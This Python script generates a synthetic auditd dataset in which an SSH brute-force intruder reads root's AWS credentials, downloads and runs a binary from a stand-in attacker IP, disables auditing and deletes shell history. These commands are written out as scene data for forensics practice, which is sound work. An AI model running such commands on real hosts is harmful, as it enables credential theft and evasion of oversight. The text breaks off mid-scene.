#!/usr/bin/env python3
"""Generate ``datasets/foundation``: two days of one Linux host's raw auditd log and one day of CloudTrail.

Standard library only, fixed seed: every run writes byte-identical files (gzip with mtime 0). What happens in the
data, minute by minute, is told in ``datasets/README.md``.

Usage::

    python datasets/make_foundation.py [OUT_DIR]     # default: datasets/foundation beside this script
"""

# ruff: noqa: S108, S311 - /tmp paths are the story's command lines; a seeded PRNG is the point: reproducible data

from __future__ import annotations

import argparse
import calendar
import gzip
import json
import random
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SEED = 1130
HERE = Path(__file__).resolve().parent

# --------------------------------------------------------------------------------------------------------------
# time


def at(day: int, hh: int, mm: int = 0, ss: int = 0, ms: int = 0) -> int:
    """Epoch milliseconds of 2026-11-<day> hh:mm:ss.ms UTC (day 31 is 2026-12-01)."""
    month, mday = (12, day - 30) if day > 30 else (11, day)
    return calendar.timegm((2026, month, mday, hh, mm, ss)) * 1000 + ms


def iso(t_ms: int) -> str:
    """CloudTrail's eventTime format: 2026-11-30T02:10:04Z."""
    y, mo, d, h, mi, s = _parts(t_ms)
    return f"{y:04d}-{mo:02d}-{d:02d}T{h:02d}:{mi:02d}:{s:02d}Z"


def _parts(t_ms: int) -> tuple[int, int, int, int, int, int]:
    tm = time.gmtime(t_ms // 1000)
    return tm.tm_year, tm.tm_mon, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec


# --------------------------------------------------------------------------------------------------------------
# auditd: value encoding exactly as the kernel and libaudit do it

UNSET = 4294967295
SUBJ_USER = "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"
SUBJ_SSHD = "system_u:system_r:sshd_t:s0-s0:c0.c1023"
SUBJ_CROND = "system_u:system_r:crond_t:s0-s0:c0.c1023"
SUBJ_INIT = "system_u:system_r:init_t:s0"
SUBJ_AUDITD = "system_u:system_r:auditd_t:s0"
SUBJ_SERVICE = "system_u:system_r:unconfined_service_t:s0"
KERNEL = "5.14.0-503.14.1.el9_5.x86_64"

PROGRAMS = {
    "bash": "/usr/bin/bash", "-bash": "/usr/bin/bash", "ls": "/usr/bin/ls", "cat": "/usr/bin/cat",
    "id": "/usr/bin/id", "uname": "/usr/bin/uname", "uptime": "/usr/bin/uptime", "df": "/usr/bin/df",
    "free": "/usr/bin/free", "ps": "/usr/bin/ps", "grep": "/usr/bin/grep", "tail": "/usr/bin/tail",
    "git": "/usr/bin/git", "vim": "/usr/bin/vim", "curl": "/usr/bin/curl", "chmod": "/usr/bin/chmod",
    "mkdir": "/usr/bin/mkdir", "tar": "/usr/bin/tar", "make": "/usr/bin/make", "python3": "/usr/bin/python3.9",
    "sudo": "/usr/bin/sudo", "systemctl": "/usr/bin/systemctl", "dnf": "/usr/bin/python3.9",
    "useradd": "/usr/sbin/useradd", "usermod": "/usr/sbin/usermod", "userdel": "/usr/sbin/userdel",
    "passwd": "/usr/bin/passwd", "auditctl": "/usr/sbin/auditctl", "ausearch": "/usr/sbin/ausearch",
    "journalctl": "/usr/bin/journalctl", "last": "/usr/bin/last", "rm": "/usr/bin/rm", "ss": "/usr/sbin/ss",
    "run-parts": "/usr/bin/run-parts", "less": "/usr/bin/less", "w": "/usr/bin/w", "top": "/usr/bin/top",
}


def _needs_hex(data: bytes) -> bool:
    return any(c == 0x22 or c < 0x21 or c > 0x7E for c in data)


def enc(value: str) -> str:
    """An untrusted string field: quoted, or upper-case hex when it holds a space, a quote or a control byte."""
    data = value.encode("utf-8")
    return data.hex().upper() if _needs_hex(data) else f'"{value}"'


def proctitle(argv: list[str]) -> str:
    """The PROCTITLE value: the NUL-joined argv, cut at 128 bytes, hex-encoded when needed (always, for >1 arg)."""
    data = b"\0".join(a.encode("utf-8") for a in argv)[:128]
    return data.hex().upper() if _needs_hex(data) else f'"{data.decode()}"'


def pam(op: str, acct: str, exe: str, *, grantors: str = "?", host: str = "?", addr: str = "?",
        terminal: str = "?", ok: bool = True, acct_raw: bool = False) -> str:
    """The msg='...' of a PAM-originated user message (libaudit's audit_log_acct_message)."""
    acct_text = acct if acct_raw else enc(acct)
    grant = f" grantors={grantors}" if op.startswith("PAM:") else ""
    return (f"msg='op={op}{grant} acct={acct_text} exe=\"{exe}\" hostname={host} addr={addr} terminal={terminal} "
            f"res={'success' if ok else 'failed'}'")


def shadow(op: str, exe: str, *, ident: str, terminal: str) -> str:
    """The msg='...' of a shadow-utils account message (useradd, usermod, userdel)."""
    return f"msg='op={op} {ident} exe=\"{exe}\" hostname=? addr=? terminal={terminal} res=success'"


# --------------------------------------------------------------------------------------------------------------
# auditd: the host


@dataclass
class Session:
    """A login session: who, which auid/ses, the shell's pid, where from."""

    user: str
    uid: int
    ses: int
    shell_pid: int
    tty: str
    addr: str
    cwd: str
    sshd_pid: int = 0
    sudo_authed: bool = False


class Host:
    """One Linux host's audit trail.

    Events are added as the story is told and written sorted by time, with serials counted per boot. While
    auditing is off (``auditctl -e 0`` until the next boot) the kernel and PAM events that still happen are not
    written; auditd's own DAEMON_* records always are.
    """

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.events: list[tuple[int, int, list[tuple[str, str]], bool]] = []
        self.boot_times: list[int] = []
        self.off_from: list[int] = []
        self.pid = 700
        self.ses = 0
        self.inodes: dict[str, int] = {}
        self.users = {"root": 0, "alice": 1000, "bob": 1001, "deploy": 1002}

    # -- plumbing
    def add(self, t: int, records: list[tuple[str, str]], *, always: bool = False) -> None:
        """One event: records that share a timestamp and a serial."""
        self.events.append((t, len(self.events), records, always))

    def audit_off(self, t: int) -> None:
        self.off_from.append(t)

    def recorded(self, t: int, always: bool) -> bool:
        for start in self.off_from:
            end = min((b for b in self.boot_times if b > start), default=None)
            if start < t and (end is None or t < end) and not always:
                return False
        return True

    def new_pid(self) -> int:
        self.pid += self.rng.randint(2, 37)
        return self.pid

    def inode(self, path: str) -> int:
        if path not in self.inodes:
            self.inodes[path] = self.rng.randint(100_000, 50_000_000)
        return self.inodes[path]

    def lines(self) -> list[str]:
        out = []
        serial, boot = 0, -1
        for t, _, records, always in sorted(self.events, key=lambda e: (e[0], e[1])):
            if not self.recorded(t, always):
                continue
            now = sum(1 for b in self.boot_times if b <= t) - 1
            serial = serial + 1 if now == boot else 1
            boot = now
            stamp = f"audit({t // 1000}.{t % 1000:03d}:{serial})"
            out.extend(f"type={kind} msg={stamp}: {body}" for kind, body in records)
        return out

    # -- daemon and system records
    def daemon_start(self, t: int) -> None:
        self.add(t, [("DAEMON_START", f"op=start ver=3.1.5 format=raw kernel={KERNEL} auid={UNSET} "
                      f"pid={self.new_pid()} uid=0 ses={UNSET} subj={SUBJ_AUDITD} res=success")], always=True)

    def daemon_end(self, t: int) -> None:
        self.add(t, [("DAEMON_END", f"op=terminate auid=0 uid=0 ses={UNSET} subj={SUBJ_INIT} pid=1 res=success")],
                 always=True)

    def system(self, t: int, kind: str, text: str) -> None:
        self.add(t, [(kind, f"pid=1 uid=0 auid={UNSET} ses={UNSET} subj={SUBJ_INIT} msg='{text} comm=\"systemd\" "
                      "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")])

    def service(self, t: int, unit: str, start: bool = True) -> None:
        self.system(t, "SERVICE_START" if start else "SERVICE_STOP", f"unit={unit}")

    def boot(self, t: int) -> None:
        """The host boots: pids and login sessions start again, auditd starts, rules load, services start."""
        self.boot_times.append(t)
        self.pid = 700 + self.rng.randint(0, 150)
        self.ses = 0
        self.daemon_start(t)
        utmp = (f"pid={self.new_pid()} uid=0 auid={UNSET} ses={UNSET} subj={SUBJ_INIT} msg='{{}} "
                "comm=\"systemd-update-utmp\" exe=\"/usr/lib/systemd/systemd-update-utmp\" hostname=? addr=? "
                "terminal=? res=success'")
        self.add(t + 31, [("SYSTEM_BOOT", utmp.format(""))])
        self.add(t + 45, [("CONFIG_CHANGE", f"op=set audit_backlog_limit=8192 old=64 auid={UNSET} ses={UNSET} "
                           f"subj={SUBJ_SERVICE} res=1")])
        for i, key in enumerate(("exec", "identity", "audit-config", "time-change", "modules")):
            self.add(t + 52 + i, [("CONFIG_CHANGE", f"auid={UNSET} ses={UNSET} subj={SUBJ_SERVICE} op=add_rule "
                                   f"key=\"{key}\" list=4 res=1")])
        for i, unit in enumerate(("auditd", "systemd-logind", "sshd", "crond", "nginx", "chronyd")):
            self.service(t + 180 + 97 * i, unit)
        self.add(t + 900, [("SYSTEM_RUNLEVEL", utmp.format("old-level=N new-level=3"))])

    # -- processes
    def exec(self, t: int, s: Session | None, argv: list[str], *, uid: int | None = None, ppid: int | None = None,
             cwd: str | None = None, pid: int | None = None, exe: str | None = None) -> int:
        """An execve: SYSCALL, EXECVE, CWD, PATH (binary, loader), PROCTITLE. Returns the new pid."""
        pid = pid or self.new_pid()
        auid, ses = (s.uid, s.ses) if s else (UNSET, UNSET)
        uid = s.uid if uid is None else uid
        tty = s.tty if s else "(none)"
        exe = exe or PROGRAMS.get(argv[0], argv[0])
        comm = argv[0].lstrip("-").rsplit("/", 1)[-1][:15]
        subj = SUBJ_USER if s and s.tty != "(none)" else SUBJ_CROND
        euid = 0 if argv[0] == "sudo" else uid
        ids = (f"auid={auid} uid={uid} gid={uid} euid={euid} suid={euid} fsuid={euid} egid={uid} sgid={uid} "
               f"fsgid={uid}")
        hexptr = lambda: f"{self.rng.randint(0x55D000000000, 0x55DFFFFFFFFF):x}"  # noqa: E731
        syscall = (f"arch=c000003e syscall=59 success=yes exit=0 a0={hexptr()} a1={hexptr()} a2={hexptr()} a3=8 "
                   f"items=2 ppid={ppid or (s.shell_pid if s else 1)} pid={pid} {ids} tty={tty} ses={ses} "
                   f"comm={enc(comm)} exe={enc(exe)} subj={subj} key=\"exec\"")
        execve = f"argc={len(argv)} " + " ".join(f"a{i}={enc(a)}" for i, a in enumerate(argv))
        obj = "bin_t" if exe.startswith("/usr/") else "user_tmp_t"
        owner = 0 if obj == "bin_t" else uid
        mode = "0104755" if exe == PROGRAMS["sudo"] else "0100755"  # sudo is set-user-id root
        path0 = (f"item=0 name={enc(exe)} inode={self.inode(exe)} dev=fd:00 mode={mode} ouid={owner} "
                 f"ogid={owner} rdev=00:00 obj=system_u:object_r:{obj}:s0 nametype=NORMAL "
                 "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        ld = "/lib64/ld-linux-x86-64.so.2"
        path1 = (f"item=1 name=\"{ld}\" inode={self.inode(ld)} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
                 "obj=system_u:object_r:ld_so_t:s0 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        self.add(t, [("SYSCALL", syscall), ("EXECVE", execve), ("CWD", f"cwd={enc(cwd or (s.cwd if s else '/'))}"),
                     ("PATH", path0), ("PATH", path1), ("PROCTITLE", f"proctitle={proctitle(argv)}")])
        return pid

    def file_write(self, t: int, s: Session, pid: int, comm: str, path: str, argv: list[str], ppid: int) -> None:
        """A watched file opened for writing (the ``identity`` rule): SYSCALL openat, CWD, PATH, PROCTITLE."""
        exe = PROGRAMS[comm]
        self.add(t, [
            ("SYSCALL", f"arch=c000003e syscall=257 success=yes exit=5 a0=ffffff9c "
                        f"a1=7ffd{self.rng.randint(0, 0xFFFFFFFF):08x} a2=20902 a3=1b6 items=1 ppid={ppid} pid={pid} "
                        f"auid={s.uid} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty={s.tty} "
                        f"ses={s.ses} comm={enc(comm)} exe={enc(exe)} subj={SUBJ_USER} key=\"identity\""),
            ("CWD", f"cwd={enc(s.cwd)}"),
            ("PATH", f"item=0 name={enc(path)} inode={self.inode(path)} dev=fd:00 mode=0100644 ouid=0 ogid=0 "
                     "rdev=00:00 obj=system_u:object_r:passwd_file_t:s0 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 "
                     "cap_fver=0 cap_frootid=0"),
            ("PROCTITLE", f"proctitle={proctitle(argv)}"),
        ])

    # -- logins
    def login_record(self, t: int, pid: int, uid: int, ses: int, subj: str, title: list[str], comm: str,
                     exe: str) -> None:
        """LOGIN (auid and ses set by writing /proc/self/loginuid), with its write() SYSCALL and PROCTITLE."""
        self.add(t, [
            ("LOGIN", f"pid={pid} uid=0 subj={subj} old-auid={UNSET} auid={uid} tty=(none) old-ses={UNSET} ses={ses} "
                      "res=1"),
            ("SYSCALL", f"arch=c000003e syscall=1 success=yes exit=4 a0=3 a1=7ffc{self.rng.randint(0, 0xFFFFFFFF):08x} "
                        f"a2=4 a3=0 items=0 ppid=1 pid={pid} auid={uid} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 "
                        f"sgid=0 fsgid=0 tty=(none) ses={ses} comm={enc(comm)} exe={enc(exe)} subj={subj} "
                        "key=(null)"),
            ("PROCTITLE", f"proctitle={proctitle(title)}"),
        ])

    def ssh_login(self, t: int, user: str, addr: str, tty: str, *, method: str = "pubkey") -> Session:
        uid = self.users[user]
        pid = self.new_pid()
        sshd = "/usr/sbin/sshd"
        head = f"pid={pid} uid=0 auid={UNSET} ses={UNSET} subj={SUBJ_SSHD}"
        auth_op = "pubkey" if method == "pubkey" else "PAM:authentication"
        grantors = "?" if method == "pubkey" else "pam_usertype,pam_unix"
        self.add(t, [("USER_AUTH", f"{head} " + pam(auth_op, user, sshd, grantors=grantors, addr=addr,
                                                      terminal="ssh"))])
        self.add(t + 9, [("USER_ACCT", f"{head} " + pam("PAM:accounting", user, sshd, grantors="pam_unix,pam_localuser",
                                                          host=addr, addr=addr, terminal="ssh"))])
        self.add(t + 14, [("CRED_ACQ", f"{head} " + pam("PAM:setcred", user, sshd, grantors="pam_env,pam_unix",
                                                         host=addr, addr=addr, terminal="ssh"))])
        self.ses += 1
        ses = self.ses
        self.login_record(t + 16, pid, uid, ses, SUBJ_SSHD, [f"sshd: {user} [priv]"], "sshd", sshd)
        head = f"pid={pid} uid=0 auid={uid} ses={ses} subj={SUBJ_SSHD}"
        grant = ("pam_selinux,pam_loginuid,pam_selinux,pam_namespace,pam_keyinit,pam_keyinit,pam_limits,"
                 "pam_systemd,pam_unix,pam_umask,pam_lastlog")
        self.add(t + 58, [("USER_START", f"{head} " + pam("PAM:session_open", user, sshd, grantors=grant, host=addr,
                                                            addr=addr, terminal="ssh"))])
        self.add(t + 71, [("USER_LOGIN", f"{head} msg='op=login id={uid} exe=\"{sshd}\" hostname={addr} "
                                         f"addr={addr} terminal=/dev/{tty.replace('pts', 'pts/')} res=success'")])
        home = "/root" if uid == 0 else f"/home/{user}"
        session = Session(user, uid, ses, 0, tty, addr, home, sshd_pid=pid)
        session.shell_pid = self.exec(t + 90, session, ["-bash"], ppid=pid)
        return session

    def ssh_logout(self, t: int, s: Session) -> None:
        pid = s.sshd_pid
        sshd = "/usr/sbin/sshd"
        head = f"pid={pid} uid=0 auid={s.uid} ses={s.ses} subj={SUBJ_SSHD}"
        grant = ("pam_selinux,pam_loginuid,pam_selinux,pam_namespace,pam_keyinit,pam_keyinit,pam_limits,"
                 "pam_systemd,pam_unix,pam_umask,pam_lastlog")
        self.add(t, [("USER_LOGOUT", f"{head} msg='op=login id={s.uid} exe=\"{sshd}\" hostname={s.addr} "
                                     f"addr={s.addr} terminal=/dev/{s.tty.replace('pts', 'pts/')} res=success'")])
        self.add(t + 12, [("USER_END", f"{head} " + pam("PAM:session_close", s.user, sshd, grantors=grant,
                                                          host=s.addr, addr=s.addr, terminal="ssh"))])
        self.add(t + 15, [("CRED_DISP", f"{head} " + pam("PAM:setcred", s.user, sshd, grantors="pam_env,pam_unix",
                                                           host=s.addr, addr=s.addr, terminal="ssh"))])

    def ssh_failure(self, t: int, user: str, addr: str, *, valid: bool) -> None:
        """One failed password guess: USER_AUTH failed, then sshd's USER_LOGIN failed."""
        pid = self.new_pid()
        sshd = "/usr/sbin/sshd"
        head = f"pid={pid} uid=0 auid={UNSET} ses={UNSET} subj={SUBJ_SSHD}"
        acct = user if valid else "?"
        self.add(t, [("USER_AUTH", f"{head} " + pam("PAM:authentication", acct, sshd, host=addr, addr=addr,
                                                      terminal="ssh", ok=False))])
        login_acct = enc(user) if valid else enc("(invalid user)")
        self.add(t + 2210 + self.rng.randint(0, 400), [
            ("USER_LOGIN", f"{head} " + pam("login", login_acct, sshd, addr=addr, terminal="sshd", ok=False,
                                            acct_raw=True))])

    def cron_hourly(self, t: int) -> None:
        pid = self.new_pid()
        crond = "/usr/sbin/crond"
        head = f"pid={pid} uid=0 auid={UNSET} ses={UNSET} subj={SUBJ_CROND}"
        self.add(t, [("USER_ACCT", f"{head} " + pam("PAM:accounting", "root", crond,
                                                      grantors="pam_access,pam_unix,pam_localuser", terminal="cron"))])
        self.add(t + 2, [("CRED_ACQ", f"{head} " + pam("PAM:setcred", "root", crond, grantors="pam_env,pam_unix",
                                                         terminal="cron"))])
        self.ses += 1
        ses = self.ses
        self.login_record(t + 3, pid, 0, ses, SUBJ_CROND, ["/usr/sbin/CROND", "-n"], "crond", crond)
        head = f"pid={pid} uid=0 auid=0 ses={ses} subj={SUBJ_CROND}"
        self.add(t + 11, [("USER_START", f"{head} " + pam(
            "PAM:session_open", "root", crond, grantors="pam_loginuid,pam_keyinit,pam_limits,pam_systemd,pam_unix",
            terminal="cron"))])
        self.add(t + 12, [("CRED_REFR", f"{head} " + pam("PAM:setcred", "root", crond, grantors="pam_env,pam_unix",
                                                           terminal="cron"))])
        job = Session("root", 0, ses, pid, "(none)", "?", "/root")
        self.exec(t + 19, job, ["run-parts", "/etc/cron.hourly"], ppid=pid)
        self.add(t + 388, [("CRED_DISP", f"{head} " + pam("PAM:setcred", "root", crond, grantors="pam_env,pam_unix",
                                                            terminal="cron"))])
        self.add(t + 390, [("USER_END", f"{head} " + pam(
            "PAM:session_close", "root", crond, grantors="pam_loginuid,pam_keyinit,pam_limits,pam_systemd,pam_unix",
            terminal="cron"))])

    # -- commands
    def run(self, t: int, s: Session, argv: list[str]) -> None:
        """A command typed in a session; ``sudo ...`` goes through sudo's PAM and USER_CMD records."""
        if argv[0] != "sudo":
            self.exec(t, s, argv)
            return
        sudo_pid = self.exec(t, s, argv)
        sudo = "/usr/bin/sudo"
        term = f"/dev/{s.tty.replace('pts', 'pts/')}"
        user_head = f"pid={sudo_pid} uid={s.uid} auid={s.uid} ses={s.ses} subj={SUBJ_USER}"
        root_head = f"pid={sudo_pid} uid=0 auid={s.uid} ses={s.ses} subj={SUBJ_USER}"
        if not s.sudo_authed:
            self.add(t + 2900, [("USER_AUTH", f"{user_head} " + pam("PAM:authentication", s.user, sudo,
                                                                      grantors="pam_unix", terminal=term))])
            s.sudo_authed = True
        allowed = s.user in ("alice", "deploy")
        if allowed:
            self.add(t + 2904, [("USER_ACCT", f"{user_head} " + pam("PAM:accounting", s.user, sudo,
                                                                      grantors="pam_unix,pam_localuser",
                                                                      terminal=term))])
        if argv[1:] == ["-l"]:
            return
        command = " ".join(argv[1:])
        result = "success" if allowed else "failed"
        self.add(t + 2906, [("USER_CMD", f"{user_head} msg='cwd={enc(s.cwd)} cmd={enc(command)} exe=\"{sudo}\" "
                                         f"terminal={s.tty.replace('pts', 'pts/')} res={result}'")])
        if not allowed:
            return
        grant = "pam_keyinit,pam_limits,pam_keyinit,pam_limits,pam_systemd,pam_unix"
        self.add(t + 2908, [("CRED_REFR", f"{root_head} " + pam("PAM:setcred", "root", sudo,
                                                                  grantors="pam_env,pam_unix", terminal=term))])
        self.add(t + 2913, [("USER_START", f"{root_head} " + pam("PAM:session_open", "root", sudo, grantors=grant,
                                                                   terminal=term))])
        child = self.exec(t + 2921, s, argv[1:], uid=0, ppid=sudo_pid)
        effect = EFFECTS.get(argv[1])
        duration = effect(self, t + 2925, s, child, sudo_pid, argv[1:]) if effect else self.rng.randint(40, 900)
        self.add(t + 2930 + duration, [("USER_END", f"{root_head} " + pam("PAM:session_close", "root", sudo,
                                                                           grantors=grant, terminal=term))])
        self.add(t + 2933 + duration, [("CRED_DISP", f"{root_head} " + pam("PAM:setcred", "root", sudo,
                                                                            grantors="pam_env,pam_unix",
                                                                            terminal=term))])

    def session(self, t: int, s: Session, commands: list[list[str]], *, gap: tuple[int, int] = (8, 150)) -> int:
        """Run commands one after the other, a human's pause between them; returns the time after the last."""
        for argv in commands:
            t += self.rng.randint(gap[0] * 1000, gap[1] * 1000)
            self.run(t, s, argv)
        return t + self.rng.randint(5_000, 60_000)


# What a command run through sudo leaves in the log besides its execve; each returns how long it ran (ms).
def _systemctl(h: Host, t: int, s: Session, pid: int, ppid: int, argv: list[str]) -> int:
    if argv[1] == "restart":
        h.service(t + 310, argv[2], start=False)
        h.service(t + 655, argv[2])
    return 700


def _useradd(h: Host, t: int, s: Session, pid: int, ppid: int, argv: list[str]) -> int:
    uid = h.users[argv[-1]]
    term = s.tty.replace("pts", "pts/")
    head = f"pid={pid} uid=0 auid={s.uid} ses={s.ses} subj={SUBJ_USER}"
    for i, path in enumerate(("/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow")):
        h.file_write(t + 20 + 9 * i, s, pid, "useradd", path, argv, ppid)
    h.add(t + 61, [("ADD_GROUP", f"{head} " + shadow("add-group", "/usr/sbin/useradd", ident=f"id={uid}",
                                                     terminal=term))])
    h.add(t + 64, [("GRP_MGMT", f"{head} " + shadow("add-shadow-group", "/usr/sbin/useradd", ident=f"id={uid}",
                                                    terminal=term))])
    h.add(t + 80, [("ADD_USER", f"{head} " + shadow("add-user", "/usr/sbin/useradd", ident=f"id={uid}",
                                                    terminal=term))])
    h.add(t + 95, [("USER_MGMT", f"{head} " + shadow("add-home-dir", "/usr/sbin/useradd", ident=f"id={uid}",
                                                     terminal=term))])
    return 140


def _passwd(h: Host, t: int, s: Session, pid: int, ppid: int, argv: list[str]) -> int:
    head = f"pid={pid} uid=0 auid={s.uid} ses={s.ses} subj={SUBJ_USER}"
    h.file_write(t + 7200, s, pid, "passwd", "/etc/shadow", argv, ppid)
    h.add(t + 7210, [("USER_CHAUTHTOK", f"{head} " + pam("PAM:chauthtok", argv[-1], "/usr/bin/passwd",
                                                         grantors="pam_pwquality,pam_unix",
                                                         terminal=s.tty.replace("pts", "pts/")))])
    return 7300


def _usermod(h: Host, t: int, s: Session, pid: int, ppid: int, argv: list[str]) -> int:
    term = s.tty.replace("pts", "pts/")
    head = f"pid={pid} uid=0 auid={s.uid} ses={s.ses} subj={SUBJ_USER}"
    group, user = argv[2], argv[3]
    h.file_write(t + 15, s, pid, "usermod", "/etc/group", argv, ppid)
    h.file_write(t + 22, s, pid, "usermod", "/etc/gshadow", argv, ppid)
    for i, op in enumerate(("add-user-to-group", "add-user-to-shadow-group")):
        h.add(t + 40 + 3 * i, [("USER_MGMT", f"{head} " + shadow(op, "/usr/sbin/usermod",
                                                                 ident=f"grp={enc(group)} acct={enc(user)}",
                                                                 terminal=term))])
    return 60


def _userdel(h: Host, t: int, s: Session, pid: int, ppid: int, argv: list[str]) -> int:
    uid = h.users[argv[-1]]
    term = s.tty.replace("pts", "pts/")
    head = f"pid={pid} uid=0 auid={s.uid} ses={s.ses} subj={SUBJ_USER}"
    for i, path in enumerate(("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")):
        h.file_write(t + 20 + 9 * i, s, pid, "userdel", path, argv, ppid)
    h.add(t + 70, [("DEL_USER", f"{head} " + shadow("delete-user", "/usr/sbin/userdel", ident=f"id={uid}",
                                                    terminal=term))])
    h.add(t + 74, [("DEL_GROUP", f"{head} " + shadow("delete-group", "/usr/sbin/userdel", ident=f"id={uid}",
                                                     terminal=term))])
    return 260


def _dnf(h: Host, t: int, s: Session, pid: int, ppid: int, argv: list[str]) -> int:
    head = f"pid={pid} uid=0 auid={s.uid} ses={s.ses} subj={SUBJ_USER}"
    h.add(t + 41_000, [("SOFTWARE_UPDATE", f"{head} msg='op=install sw=\"openssl-1:3.2.2-6.el9_5.1.x86_64\" "
                                           "sw_type=rpm key_enforce=0 gpg_res=1 root_dir=\"/\" comm=\"dnf\" "
                                           f"exe=\"/usr/bin/python3.9\" hostname=web01 addr=? "
                                           f"terminal={s.tty.replace('pts', 'pts/')} res=success'")])
    return 43_000


def _auditctl(h: Host, t: int, s: Session, pid: int, ppid: int, argv: list[str]) -> int:
    if argv[1:] == ["-e", "0"]:
        h.add(t + 3, [
            ("CONFIG_CHANGE", f"op=set audit_enabled=0 old=1 auid={s.uid} ses={s.ses} subj={SUBJ_USER} res=1"),
            ("SYSCALL", f"arch=c000003e syscall=44 success=yes exit=60 a0=3 a1=7ffe{h.rng.randint(0, 0xFFFFFFFF):08x} "
                        f"a2=3c a3=0 items=0 ppid={ppid} pid={pid} auid={s.uid} uid=0 gid=0 euid=0 suid=0 fsuid=0 "
                        f"egid=0 sgid=0 fsgid=0 tty={s.tty} ses={s.ses} comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" "
                        f"subj={SUBJ_USER} key=(null)"),
            ("PROCTITLE", f"proctitle={proctitle(argv)}"),
        ])
        h.audit_off(t + 3)
    return 20


EFFECTS: dict[str, Callable[[Host, int, Session, int, int, list[str]], int]] = {
    "systemctl": _systemctl, "useradd": _useradd, "passwd": _passwd, "usermod": _usermod, "userdel": _userdel,
    "dnf": _dnf, "auditctl": _auditctl,
}

ALICE_IP, BOB_IP, ATTACKER_IP = "203.0.113.10", "198.51.100.23", "192.0.2.77"


def make_auditd(rng: random.Random) -> str:
    """The story of web01, 2026-11-29 06:00 to 2026-12-01 05:07 UTC (see datasets/README.md).

    The story is a list of scenes, each starting at a time; they are played in time order, so that process ids and
    login session ids are handed out as they would be on the host.
    """
    h = Host(rng)
    scenes: list[tuple[int, Callable[[int], object]]] = [(at(29, 6, 0, 3, 120), h.boot)]
    scenes += [(at(29 + hour // 24, hour % 24, 1, 0, rng.randint(0, 999)), h.cron_hourly) for hour in range(7, 54)]

    def visit(user: str, addr: str, tty: str, commands: list[list[str]], gap: tuple[int, int],
              method: str = "pubkey", logout: bool = True) -> Callable[[int], object]:
        def scene(t: int) -> None:
            s = h.ssh_login(t, user, addr, tty, method=method)
            end = h.session(t + 20_000, s, commands, gap=gap)
            if logout:
                h.ssh_logout(end, s)
        return scene

    # 2026-11-29: alice's and bob's working day; alice creates the account "deploy" and puts it in wheel
    scenes.append((at(29, 9, 2, 11, 340), visit("alice", ALICE_IP, "pts0", [
        ["uptime"], ["df", "-h"], ["free", "-m"], ["ls", "-la"], ["git", "-C", "/srv/app", "pull"],
        ["tail", "-n", "50", "/var/log/nginx/error.log"], ["sudo", "systemctl", "restart", "nginx"],
        ["systemctl", "status", "nginx"], ["curl", "-sI", "http://localhost/"], ["vim", "/srv/app/config.yml"],
        ["ps", "aux"], ["grep", "-c", "ERROR", "/srv/app/logs/app.log"], ["sudo", "dnf", "-y", "upgrade", "openssl"],
        ["sudo", "systemctl", "restart", "nginx"], ["w"],
    ], gap=(20, 600))))
    scenes.append((at(29, 10, 14, 52, 77), visit("bob", BOB_IP, "pts1", [
        ["ls"], ["git", "status"], ["git", "pull"], ["vim", "app/views.py"], ["make", "test"],
        ["python3", "-m", "pytest", "-q", "tests/test_orders.py"], ["vim", "app/views.py"],
        ["python3", "-m", "pytest", "-q"], ["git", "commit", "-am", "Fix pagination on the orders page"],
        ["git", "push"], ["less", "/srv/app/logs/app.log"], ["top"], ["git", "log", "--oneline", "-5"],
    ], gap=(60, 1500))))
    scenes.append((at(29, 15, 4, 40, 901), visit("alice", ALICE_IP, "pts0", [
        ["sudo", "useradd", "-m", "-s", "/bin/bash", "deploy"], ["sudo", "passwd", "deploy"],
        ["sudo", "usermod", "-aG", "wheel", "deploy"], ["id", "deploy"], ["ls", "/home"],
        ["tar", "czf", "/tmp/app-backup.tgz", "/srv/app"], ["ls", "-lh", "/tmp/app-backup.tgz"],
    ], gap=(15, 240))))

    # 22:14: a password-guessing burst from 192.0.2.77 ...
    def burst(t: int) -> None:
        guesses = ["root"] * 12 + ["admin"] * 8 + ["oracle"] * 6 + ["test"] * 6 + ["deploy"] * 8
        for user in guesses:
            h.ssh_failure(t, user, ATTACKER_IP, valid=user in h.users)
            t += rng.randint(3_000, 7_000)

    scenes.append((at(29, 22, 14, 5, 0), burst))
    # ... 22:31: it gets in as deploy, reads root's AWS credentials, turns auditing off (and never logs out)
    scenes.append((at(29, 22, 31, 12, 604), visit("deploy", ATTACKER_IP, "pts2", [
        ["id"], ["uname", "-a"], ["cat", "/etc/passwd"], ["sudo", "-l"], ["sudo", "cat", "/root/.aws/credentials"],
        ["mkdir", "-p", "/tmp/.cache"], ["curl", "-s", "-o", "/tmp/.cache/upd", "http://192.0.2.77/upd"],
        ["chmod", "+x", "/tmp/.cache/upd"], ["/tmp/.cache/upd"], ["ss", "-tnp"], ["sudo", "auditctl", "-e", "0"],
        # from here on nothing reaches the log: auditing is off until the reboot
        ["cat", "/home/alice/.bash_history"], ["rm", "-f", "/home/deploy/.bash_history"],
    ], gap=(6, 90), method="password", logout=False)))

    # 2026-11-30 03:30: the nightly reboot (auditd's DAEMON_END is written even with auditing off)
    scenes.append((at(30, 3, 30, 12, 0), h.daemon_end))
    scenes.append((at(30, 3, 31, 40, 512), h.boot))

    # 09:02: alice finds auditing was off and cleans up; 11:00: bob works, and is refused sudo
    scenes.append((at(30, 9, 2, 48, 15), visit("alice", ALICE_IP, "pts0", [
        ["last", "-n", "20"], ["sudo", "ausearch", "-m", "CONFIG_CHANGE", "-i"], ["sudo", "auditctl", "-s"],
        ["sudo", "journalctl", "-u", "sshd", "--since", "yesterday"], ["ls", "-la", "/tmp/.cache"],
        ["sudo", "rm", "-rf", "/tmp/.cache"], ["sudo", "userdel", "-r", "deploy"], ["id", "deploy"],
